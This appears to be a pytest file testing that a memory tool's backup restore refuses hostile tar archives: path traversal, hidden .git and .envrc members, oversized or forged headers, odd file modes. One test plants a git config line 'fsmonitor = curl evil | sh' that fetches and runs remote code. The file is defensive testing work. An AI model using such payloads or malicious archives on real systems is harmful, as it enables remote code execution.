"""`memory restore`'s allow-list (memtool/backup.py) against hostile archives built in the test.
Round trips and the older refusals: tests/test_export.py."""

from __future__ import annotations

import gzip
import io
import os
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest
from typer.testing import CliRunner

from memtool.backup import Limits, allowed, restore
from memtool.cli.main import app
from memtool.errors import BadInput
from memtool.store import Layout

runner = CliRunner()
REPO = Path(__file__).resolve().parents[1]
DAY = "memory/index/2026-01-01.json"


def member(name: str, data: bytes = b"x\n", mode: int = 0o644) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size, info.mode = len(data), mode
    return info, data


def archive(path: Path, *members: tuple[tarfile.TarInfo, bytes]) -> Path:
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for info, data in (member(DAY, b"{}\n"), *members):
            tar.addfile(info, io.BytesIO(data))
    return path


def refused(root: Path, path: Path, why: str, limits: Limits = Limits()) -> None:
    with pytest.raises(BadInput) as caught:
        restore(Layout(root), path, limits=limits)
    assert why in str(caught.value) and "nothing was written" in str(caught.value), caught.value
    assert list(root.iterdir()) == []


@pytest.mark.parametrize(
    "name, why",
    [
        ("memory/.git/config", "hidden name"),
        ("memory/.git/hooks/post-checkout", "hidden name"),
        (".git/config", "hidden name"),
        ("memory/.envrc", "hidden name"),
        ("memory/index/x.sh", "not part of a memtool backup"),
        ("memory/tool.py", "not part of a memtool backup"),
        ("memory/index/embeddings/../../../x.json", "'..'"),
        ("memory/" + "a" * 250 + ".md", "a name of 260 characters"),
        ("memory/bad\nname.md", "control character"),
    ],
)
def test_names_outside_the_layout_are_refused_with_the_reason(root, tmp_path, name, why):
    refused(root, archive(tmp_path / "a.tar.gz", member(name)), why)


def test_restore_cli_refuses_a_git_config_member(root, tmp_path):
    fsmonitor = b"[core]\n\tfsmonitor = curl evil | sh\n"
    res = runner.invoke(app, ["restore", str(archive(tmp_path / "a.tar.gz", member("memory/.git/config", fsmonitor)))])
    assert res.exit_code == BadInput.exit_code
    assert "memory/.git/config" in res.output and "never restored" in res.output and "Traceback" not in res.output
    assert list(root.iterdir()) == []


def test_a_long_name_is_a_clear_refusal_not_a_traceback(root, tmp_path):
    res = runner.invoke(app, ["restore", str(archive(tmp_path / "a.tar.gz", member("memory/" + "n" * 256 + ".md")))])
    assert res.exit_code == BadInput.exit_code and "characters" in res.output and "Traceback" not in res.output
    assert res.exception is None or isinstance(res.exception, SystemExit)


def test_exec_bits_and_odd_modes_are_normalised(root, tmp_path):
    path = archive(tmp_path / "a.tar.gz", member("MEMORY.md", b"# MEMORY\n", 0o4777), member("memory/transcripts/ctx-a.md", b"t\n", 0o755))
    report = restore(Layout(root), path)
    assert sorted(report.restored) == sorted(["MEMORY.md", DAY, "memory/transcripts/ctx-a.md"])
    for name in report.restored:
        assert (root / name).stat().st_mode & 0o7777 == 0o644 & ~_umask(), name
    assert not [p for p in (root / "memory" / ".cache").iterdir() if p.name.startswith("restore-")]  # staging removed


def _umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_size_caps_are_checked_from_the_headers(root, tmp_path):
    big = archive(tmp_path / "big.tar.gz", member("memory/transcripts/ctx-big.md", b"y" * 2000))
    refused(root, big, "over the 1,000-byte limit for one file", Limits(member_bytes=1000))
    two = archive(tmp_path / "two.tar.gz", member("memory/a.md", b"a" * 1500), member("memory/b.md", b"b" * 1500))
    refused(root, two, "more than the 3,000-byte limit", Limits(total_bytes=3000))
    many = archive(tmp_path / "many.tar.gz", *(member(f"memory/n{i}.md") for i in range(5)))
    refused(root, many, "more than 3 members", Limits(members=3))


def test_a_small_archive_claiming_a_huge_member_is_refused_before_reading_it(root, tmp_path):
    """The header says 3 GiB; the archive is a few hundred bytes: refused at the header, no data read."""
    header = tarfile.TarInfo("memory/transcripts/ctx-huge.md")
    header.size = 3 * 1024**3
    raw = member(DAY, b"{}\n")
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        tar.addfile(raw[0], io.BytesIO(raw[1]))
        tar.fileobj.write(header.tobuf(tarfile.USTAR_FORMAT))  # the header alone: its 3 GiB never follow
        tar.offset += tarfile.BLOCKSIZE
    path = tmp_path / "huge.tar.gz"
    path.write_bytes(gzip.compress(buf.getvalue()))
    assert path.stat().st_size < 4096
    refused(root, path, "3,221,225,472 bytes, over the")


STREAM_CHECK = """
import resource, sys, tarfile, io
sys.path.insert(0, {repo!r})
from pathlib import Path
from memtool.backup import restore
from memtool.store import Layout
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
restore(Layout(Path({root!r})), Path({archive!r}))
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


def test_members_are_streamed_to_disk_not_held_in_memory(root, tmp_path):
    """A 96 MiB member (a 100 KB archive) restores with the process growing by far less than 96 MiB."""
    size = 96 * 1024**2
    path = tmp_path / "zeros.tar.gz"
    with tarfile.open(path, "w:gz", compresslevel=1) as tar:
        day = member(DAY, b"{}\n")
        tar.addfile(day[0], io.BytesIO(day[1]))
        info = tarfile.TarInfo("memory/transcripts/ctx-zeros.md")
        info.size = size
        with open("/dev/zero", "rb") as zeros:
            tar.addfile(info, zeros)
    assert path.stat().st_size < 1024**2
    code = STREAM_CHECK.format(repo=str(REPO), root=str(root), archive=str(path))
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stderr
    grown_kib = int(done.stdout.split()[-1])
    assert grown_kib < 32 * 1024, f"grew by {grown_kib} KiB"
    assert (root / "memory/transcripts/ctx-zeros.md").stat().st_size == size


def test_the_allow_list_holds_every_file_of_a_store_layout():
    for name in (
        "MEMORY.md",
        "USER.md",
        "AGENTS.md",
        "memory/2026-03-02.md",
        "memory/index/index.json",
        DAY,
        "memory/index/embeddings/2026-03/ctx-20260302-ab12cd34.vec",
        "memory/transcripts/2026-03/ctx-20260302-ab12cd34.md",
        "memory/index/embeddings/undated/hand-made.vec",
        "memory/index/tombstones.jsonl",
        "memory/archive/2024/index/embeddings/2024-01/ctx-20240105-ab12cd34.vec",
        "memory/archive/2024/transcripts/2024-01/ctx-20240105-ab12cd34.md",
        # the layout before month folders: an old backup restores, then `memory migrate` moves it
        "memory/index/embeddings/ctx-20260302-ab12cd34.json",
        "memory/transcripts/ctx-20260302-ab12cd34.md",
        "memory/config.yaml",
        "memory/.gitignore",
        "memory/archive/2024/2024-01-05.md",
        "memory/archive/2024/index/2024-01-05.json",
        "memory/archive/2024/transcripts/ctx-a.md",
        "memory/areas/people/ana/summary.md",
        "memory/inbox/Meeting notes.md",
        "memory/quarantine/20260101T000000Z/memory/index/2026-01-01.json",
    ):
        assert allowed(name, False), name
    for name in (
        "memory/.cache/search/manifest.json",
        "memory/.lock",
        "memory/index/notes.md",
        "memory/x.sh",
        "README.md",
        "memory/transcripts/../x.md",
        "memory/transcripts/2026/ctx-a.md",
        "memory/index/embeddings/2026-03/ctx-a.json",
        "memory/index/embeddings/2026-03/ctx-a.sh",
        "memory/index/embeddings/2026-03/sub/ctx-a.vec",
        "memory/.git/config",
        "memory/archive/2024/x.py",
    ):
        assert not allowed(name, False), name
    assert allowed("memory/index/embeddings", True) and not allowed("memory/.git", True)


def test_a_backup_of_a_store_in_month_folders_restores_every_file_and_searches(root, tmp_path):
    from memtool.app import open_memory
    from memtool.backup import backup
    from memtool.scaffold import init
    from tests.conftest import FakeCompressor, FakeEmbedder

    store = tmp_path / "store"
    init(store)
    mem = open_memory(store, embedder=FakeEmbedder(), compressor=FakeCompressor())
    entry = mem.compress("user: we moved billing to Postgres and Alice owns the migration")
    files = {p.relative_to(store).as_posix(): p.read_bytes() for p in (mem.layout.embedding_file(entry.id), mem.layout.transcript_file(entry.id))}
    assert all("/20" in name for name in files)  # in month folders
    backup(mem.layout, tmp_path / "b.tar.gz")
    restored = tmp_path / "restored"
    restored.mkdir()
    report = restore(Layout(restored), tmp_path / "b.tar.gz")
    assert set(files) <= set(report.restored)
    assert all((restored / name).read_bytes() == data for name, data in files.items())
    again = open_memory(restored, embedder=FakeEmbedder(), compressor=FakeCompressor())
    assert [h.id for h in again.search("billing Postgres")] == [entry.id]
